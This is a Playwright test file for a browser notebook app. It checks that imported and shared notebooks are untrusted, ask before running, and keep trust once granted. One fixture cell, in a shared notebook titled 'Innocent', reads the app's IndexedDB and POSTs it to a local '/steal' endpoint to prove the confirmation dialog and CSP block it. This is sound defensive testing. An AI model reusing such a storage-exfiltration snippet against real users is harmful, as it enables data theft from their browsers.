/**
 * Notebooks from elsewhere (an imported .ipynb, a share link) are untrusted: a banner says what
 * their code could do here, and the first run asks. Notebooks the user makes are trusted.
 */
import { compressToEncodedURIComponent } from 'lz-string';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { importFile, ipynbFile, newNotebook, openGallery } from './helpers/gallery';
import { cell, executionCount, openEditor, output, runCell, runCode, waitForIdle, waitForSaved } from './helpers/notebook';

/** A TypeScript .ipynb with these code cells, never run. */
function ipynb(title: string, sources: string[], metadata: Record<string, unknown> = {}) {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'tslab', display_name: 'TypeScript', language: 'typescript' }, sparkbook: { title }, ...metadata },
    cells: sources.map((source, i) => ({ id: `c${i}`, cell_type: 'code', metadata: {}, source, outputs: [], execution_count: null })),
  };
}

/** A share link as the Share button makes it: the .ipynb text, lz-string compressed, in the fragment. */
function shareLink(notebook: unknown) {
  return `/shared#nb=${compressToEncodedURIComponent(JSON.stringify(notebook))}`;
}

const banner = (page: Page) => page.getByRole('region', { name: 'Untrusted notebook' });
const question = (page: Page) => page.getByRole('alertdialog', { name: 'Run code from an untrusted notebook?' });

/** The cell has not run: no execution count, no output. */
async function expectNotRun(page: Page, n: number) {
  await expect(executionCount(page, n)).toHaveAccessibleName('Execution count none');
  await expect(output(page, n)).toHaveText('');
}

test('an imported notebook is untrusted: Run asks, Cancel runs nothing, Run runs it and trusts it for good', async ({ page }) => {
  await openGallery(page);
  // The file claims to be trusted already; an import must never believe it.
  const file = ipynb('Imported', ["console.log('ran the imported cell');\n6 * 7"], { trusted: true, signature: 'sha256:0' });
  (file.metadata.sparkbook as Record<string, unknown>).trusted = true;
  await importFile(page, ipynbFile('imported.ipynb', file));
  await page.waitForURL(/\/notebooks\/[^/]+$/);
  await waitForIdle(page);

  await expect(banner(page)).toBeVisible();
  await expect(banner(page)).toContainText('read and change the other notebooks, models and jobs saved in this browser');
  await expect(banner(page)).toContainText('cannot send them to other sites');
  await expect(banner(page).getByRole('button', { name: 'Trust this notebook' })).toBeVisible();
  await banner(page).screenshot({ path: 'test-results/screens/untrusted-banner.png' });

  // Run asks; the safe answer has the focus; Cancel runs nothing.
  await runCell(page, 1);
  await expect(question(page)).toBeVisible();
  await expect(question(page).getByRole('button', { name: 'Cancel' })).toBeFocused();
  await page.screenshot({ path: 'test-results/screens/untrusted-run-dialog.png' });
  await question(page).getByRole('button', { name: 'Cancel' }).click();
  await expect(question(page)).toBeHidden();
  await page.waitForTimeout(1000); // give a run that should not happen the time to show
  await expectNotRun(page, 1);
  await expect(banner(page)).toBeVisible();

  // Shift+Enter in the editor asks too, and Esc cancels.
  await openEditor(page, 1);
  await page.keyboard.press('Shift+Enter');
  await expect(question(page)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(question(page)).toBeHidden();
  await expectNotRun(page, 1);

  // Run runs it, and trusts the notebook: the banner goes.
  await runCell(page, 1);
  await question(page).getByRole('button', { name: 'Run', exact: true }).click();
  await expect(output(page, 1)).toContainText('ran the imported cell');
  await expect(output(page, 1)).toContainText('42');
  await expect(banner(page)).toHaveCount(0);
  await waitForIdle(page);

  // Trust is kept with the notebook: after a reload it runs without asking.
  await waitForSaved(page);
  await page.reload();
  await waitForIdle(page);
  await expect(cell(page, 1)).toBeVisible();
  await expect(banner(page)).toHaveCount(0);
  await page.getByRole('button', { name: 'Clear outputs' }).click();
  await expect(output(page, 1)).toHaveText('');
  await runCell(page, 1);
  await expect(output(page, 1)).toContainText('ran the imported cell');
  await expect(question(page)).toHaveCount(0);
});

test('a shared notebook is untrusted, Run all asks, and a saved copy stays untrusted until trusted', async ({ page }) => {
  await page.goto(shareLink(ipynb('Shared', ["console.log('first');", "console.log('second');"])));
  await expect(page.getByRole('region', { name: 'Shared notebook' })).toBeVisible();
  await expect(banner(page)).toBeVisible();
  await waitForIdle(page);

  await page.getByRole('button', { name: 'Run all' }).click();
  await expect(question(page)).toBeVisible();
  await expect(question(page)).toContainText('share link');
  await question(page).getByRole('button', { name: 'Cancel' }).click();
  await expect(question(page)).toBeHidden();
  await expectNotRun(page, 1);
  await expectNotRun(page, 2);

  await page.getByRole('button', { name: 'Save a copy' }).click();
  await page.waitForURL(/\/notebooks\/[^/#]+$/);
  await waitForIdle(page);
  await expect(banner(page)).toBeVisible();
  await runCell(page, 1);
  await expect(question(page)).toBeVisible();
  await question(page).getByRole('button', { name: 'Cancel' }).click();
  await expectNotRun(page, 1);

  // Trusting it from the banner is kept too.
  await banner(page).getByRole('button', { name: 'Trust this notebook' }).click();
  await expect(banner(page)).toHaveCount(0);
  await waitForSaved(page);
  await page.reload();
  await waitForIdle(page);
  await expect(cell(page, 1)).toBeVisible();
  await expect(banner(page)).toHaveCount(0);
  await page.getByRole('button', { name: 'Run all' }).click();
  await expect(output(page, 2)).toContainText('second');
  await expect(question(page)).toHaveCount(0);
});

test('a notebook of your own is trusted: no banner, and Run does not ask', async ({ page }) => {
  await newNotebook(page);
  await expect(banner(page)).toHaveCount(0);
  await runCode(page, 1, "'mine'");
  await expect(output(page, 1)).toContainText('mine');
  await expect(question(page)).toHaveCount(0);
});

test('a shared cell that would read IndexedDB and post it away is stopped by the question before anything runs', async ({
  page,
  context,
  guards,
}) => {
  const steal = [
    'const db = await new Promise<IDBDatabase>((resolve, reject) => {',
    "  const request = indexedDB.open('sparkbook');",
    '  request.onsuccess = () => resolve(request.result);',
    '  request.onerror = () => reject(request.error);',
    '});',
    "console.log('opened', db.name, [...db.objectStoreNames].join(','));",
    "await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' });",
    "console.log('sent');",
  ].join('\n');
  const stealRequests: string[] = [];
  const stealFailures: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('/steal')) stealRequests.push(request.url());
  });
  context.on('requestfailed', (request) => {
    if (request.url().includes('/steal')) stealFailures.push(request.failure()?.errorText ?? '');
  });
  const response = await page.goto(shareLink(ipynb('Innocent', [steal])));
  await waitForIdle(page);

  await runCell(page, 1);
  await expect(question(page)).toBeVisible();
  // Nothing may run while the question is open, nor after Cancel: give a run the time to show.
  await page.waitForTimeout(1000);
  await expectNotRun(page, 1);
  await question(page).getByRole('button', { name: 'Cancel' }).click();
  await page.waitForTimeout(1000);
  await expectNotRun(page, 1);
  expect(stealRequests).toEqual([]);

  // Stopping the request itself is the Content Security Policy's job; check it only where the
  // app sends one that limits connections (running the cell without it would really send it).
  const csp = (await response?.allHeaders())?.['content-security-policy'] ?? '';
  if (!/connect-src/.test(csp)) return;
  await runCell(page, 1);
  await question(page).getByRole('button', { name: 'Run', exact: true }).click();
  await expect(output(page, 1)).toContainText('opened sparkbook');
  await waitForIdle(page);
  await expect(output(page, 1)).not.toContainText('sent');
  // Chromium may report a request the policy blocked as one that failed; it never left the browser.
  expect(stealFailures.every((reason) => /BLOCKED_BY_CSP/.test(reason))).toBe(true);
  expect(stealFailures).toHaveLength(stealRequests.length);
  const blocked = new Set(stealRequests);
  guards.foreignRequests.splice(0, guards.foreignRequests.length, ...guards.foreignRequests.filter((url) => !blocked.has(url)));
});
